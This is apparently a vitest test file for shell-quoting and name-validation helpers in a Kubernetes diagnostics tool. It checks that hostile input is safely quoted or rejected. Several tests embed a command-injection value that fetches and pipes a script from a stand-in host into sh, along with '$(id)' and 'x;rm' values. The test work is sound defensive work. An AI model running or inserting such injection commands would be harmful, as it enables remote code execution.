import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { isHostname, isKubeName, kubeName, kubeRef, shellCommand, shellQuote } from '../../diagnostics/shell.ts';
import { splitShellWords } from '../support/shell-words.ts';

describe('shellQuote / shellCommand', () => {
  it('leaves plain words bare and quotes everything else', () => {
    expect(shellQuote('kubectl')).toBe('kubectl');
    expect(shellQuote('--field-selector=involvedObject.name=api-1')).toBe('--field-selector=involvedObject.name=api-1');
    expect(shellQuote('')).toBe("''");
    expect(shellQuote('db; curl -s evil.example/x | sh; #')).toBe("'db; curl -s evil.example/x | sh; #'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote(6)).toBe('6');
  });

  it('turns the issue\'s hostile host into one quoted nslookup argument', () => {
    const cmd = shellCommand(['nslookup', 'db; curl -s evil.example/x | sh; #']);
    expect(cmd).toBe("nslookup 'db; curl -s evil.example/x | sh; #'");
    expect(splitShellWords(cmd)).toEqual(['nslookup', 'db; curl -s evil.example/x | sh; #']);
  });

  it('round-trips any argv through a shell-word splitter (property)', () => {
    const hostile = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom(...";|&$`()<>'\"\\\n *?[]{}#~!=\t".split('')) }),
      fc.string({ unit: 'grapheme' }),
    );
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (argv) => {
        expect(splitShellWords(shellCommand(argv))).toEqual(argv);
      }),
      { numRuns: 500 },
    );
  });
});

describe('name validation', () => {
  it('accepts Kubernetes names and rejects anything else', () => {
    expect(isKubeName('api-7d9f8b6c5d-x2k4q')).toBe(true);
    expect(isKubeName('a.b-c')).toBe(true);
    expect(isKubeName('Api')).toBe(false);
    expect(isKubeName('x;rm')).toBe(false);
    expect(isKubeName('-a')).toBe(false);
    expect(isKubeName('a'.repeat(254))).toBe(false);
    expect(kubeName('ok', '<pod>')).toBe('ok');
    expect(kubeName('$(id)', '<pod>')).toBe('<pod>');
    expect(kubeRef('deployment/api', '<workload>')).toBe('deployment/api');
    expect(kubeRef('deployment/a b', '<workload>')).toBe('<workload>');
  });

  it('accepts hostnames and IPv4, rejects shell text', () => {
    expect(isHostname('db.prod.svc.cluster.local')).toBe(true);
    expect(isHostname('10.0.0.1')).toBe(true);
    expect(isHostname('Redis_Master')).toBe(true);
    expect(isHostname('db; curl')).toBe(false);
    expect(isHostname('a'.repeat(300))).toBe(false);
  });
});
